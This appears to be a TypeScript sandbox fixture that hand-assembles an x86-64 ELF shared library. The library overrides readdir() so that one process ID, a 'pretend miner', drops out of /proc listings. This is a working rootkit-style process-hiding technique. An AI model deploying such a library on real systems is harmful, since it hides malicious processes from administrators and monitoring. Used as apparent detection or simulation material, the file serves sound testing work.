/** Bytes of the library that are filled in when the process that it hides has started: its number, then zeros. */
export const HIDDEN_PID = '#PID-OF-THE-ONE#';

/**
 * A shared library for x86-64 whose readdir() leaves out one name: what hides the pretend miner from tools that list
 * /proc, in a sandbox and nowhere else, as libprocesshider does with a whole list. It is written byte by byte here, so
 * that no compiler is needed on the host and no binary lies in the source. It changes nothing, starts nothing, and the
 * one name is a process number that only this sandbox knows.
 *
 * Layout by the ELF and x86-64 psABI specifications and elf(5): one segment to read and run, one page later one for
 * what the dynamic linker writes. `libdl.so.2` is where dlsym(3) was before glibc 2.34; musl takes that name as its own.
 */
export function hidingLibrary(): Buffer {
  const names = '\0dlsym\0readdir\0readdir64\0libdl.so.2\0';
  const at = (name: string) => names.indexOf(`\0${name}\0`) + 1;
  const image = Buffer.alloc(WRITTEN + DYNAMIC_ENTRIES * 16 + 8);
  header(image);
  // One bucket with the chain readdir64 → readdir → dlsym (System V gABI, Hash Table).
  [1, 4, 3, 0, 0, 1, 2].forEach((word, index) => void image.writeUInt32LE(word, HASH + index * 4));
  symbol(image, 1, at('dlsym'), 0, 0);
  symbol(image, 2, at('readdir'), CODE, TEXT_SECTION);
  symbol(image, 3, at('readdir64'), CODE, TEXT_SECTION);
  image.write(names, STRINGS, 'latin1');
  // R_X86_64_GLOB_DAT of symbol 1.
  [BigInt(SLOT), (1n << 32n) | 6n, 0n].forEach(
    (word, index) => void image.writeBigUInt64LE(word, RELOCATIONS + index * 8),
  );
  code(STRINGS + at('readdir')).copy(image, CODE);
  image.write(HIDDEN_PID, HIDDEN, 'latin1');
  const dynamic: readonly (readonly [tag: number, value: number])[] = [
    ...([
      [1, at('libdl.so.2')],
      [4, HASH],
      [5, STRINGS],
      [6, SYMBOLS],
      [10, names.length],
      [11, 24],
    ] as const),
    ...([
      [7, RELOCATIONS],
      [8, 24],
      [9, 24],
      [0, 0],
    ] as const),
  ];
  dynamic.forEach(([tag, value], index) => {
    image.writeBigUInt64LE(BigInt(tag), WRITTEN + index * 16);
    image.writeBigUInt64LE(BigInt(value), WRITTEN + index * 16 + 8);
  });
  return image;
}

const HASH = 0x120;
const SYMBOLS = 0x140;
const STRINGS = 0x1a0;
const RELOCATIONS = 0x1d0;
const CODE = 0x1f0;
const HIDDEN = 0x240;
const READ_END = HIDDEN + HIDDEN_PID.length;
const WRITTEN = 0x1000;
const DYNAMIC_ENTRIES = 10;
/** Where the dynamic linker puts the address of dlsym. */
const SLOT = WRITTEN + DYNAMIC_ENTRIES * 16;
/** Any section number but 0 says that a symbol is defined here; there are no sections to be named. */
const TEXT_SECTION = 1;

function header(image: Buffer): void {
  image.write('\x7fELF\x02\x01\x01', 0, 'latin1');
  image.writeUInt16LE(3, 16); // ET_DYN
  image.writeUInt16LE(62, 18); // EM_X86_64
  image.writeUInt32LE(1, 20);
  image.writeBigUInt64LE(64n, 32); // program headers follow
  image.writeUInt16LE(64, 52);
  image.writeUInt16LE(56, 54);
  image.writeUInt16LE(4, 56);
  image.writeUInt16LE(64, 58);
  segment(image, 0, { type: 1, flags: 5, from: 0, size: READ_END, align: 0x1000 });
  segment(image, 1, { type: 1, flags: 6, from: WRITTEN, size: DYNAMIC_ENTRIES * 16 + 8, align: 0x1000 });
  segment(image, 2, { type: 2, flags: 6, from: WRITTEN, size: DYNAMIC_ENTRIES * 16, align: 8 });
  // PT_GNU_STACK: without it a stack that can be run would be asked for.
  segment(image, 3, { type: 0x6474e551, flags: 6, from: 0, size: 0, align: 16 });
}

interface Segment {
  readonly type: number;
  readonly flags: number;
  readonly from: number;
  readonly size: number;
  readonly align: number;
}

function segment(image: Buffer, index: number, { type, flags, from, size, align }: Segment): void {
  const start = 64 + index * 56;
  image.writeUInt32LE(type, start);
  image.writeUInt32LE(flags, start + 4);
  [from, from, from, size, size, align].forEach(
    (value, field) => void image.writeBigUInt64LE(BigInt(value), start + 8 + field * 8),
  );
}

function symbol(image: Buffer, index: number, name: number, value: number, section: number): void {
  const start = SYMBOLS + index * 24;
  image.writeUInt32LE(name, start);
  image.writeUInt8(0x12, start + 4); // a global function
  image.writeUInt16LE(section, start + 6);
  image.writeBigUInt64LE(BigInt(value), start + 8);
}

/** `readdir`: the next entry of the real one that is not called as the hidden process is. */
function code(realName: number): Buffer {
  const relative = (target: number, end: number): number[] => {
    const bytes = Buffer.alloc(4);
    bytes.writeInt32LE(target - (CODE + end));
    return [...bytes];
  };
  return Buffer.from([
    ...[0x53], // push rbx
    ...[0x48, 0x89, 0xfb], // mov rbx, rdi: the folder
    // again (4):
    ...[0x48, 0xc7, 0xc7, 0xff, 0xff, 0xff, 0xff], // mov rdi, -1: RTLD_NEXT
    ...[0x48, 0x8d, 0x35, ...relative(realName, 18)], // lea rsi, "readdir"
    ...[0xff, 0x15, ...relative(SLOT, 24)], // call dlsym
    ...[0x48, 0x89, 0xdf], // mov rdi, rbx
    ...[0xff, 0xd0], // call rax
    ...[0x48, 0x85, 0xc0], // test rax, rax
    ...[0x74, 63 - 34], // jz done: no more entries
    ...[0x48, 0x8d, 0x35, ...relative(HIDDEN, 41)], // lea rsi, hidden
    ...[0x48, 0x8d, 0x78, 19], // lea rdi, [rax + 19]: d_name of struct dirent
    // next (45):
    ...[0x8a, 0x16], // mov dl, [rsi]
    ...[0x3a, 0x17], // cmp dl, [rdi]
    ...[0x75, 63 - 51], // jne done: another name
    ...[0x48, 0xff, 0xc6], // inc rsi
    ...[0x48, 0xff, 0xc7], // inc rdi
    ...[0x84, 0xd2], // test dl, dl
    ...[0x75, 256 + 45 - 61], // jnz next
    ...[0xeb, 256 + 4 - 63], // jmp again: this one is left out
    // done (63):
    ...[0x5b], // pop rbx
    ...[0xc3], // ret
  ]);
}
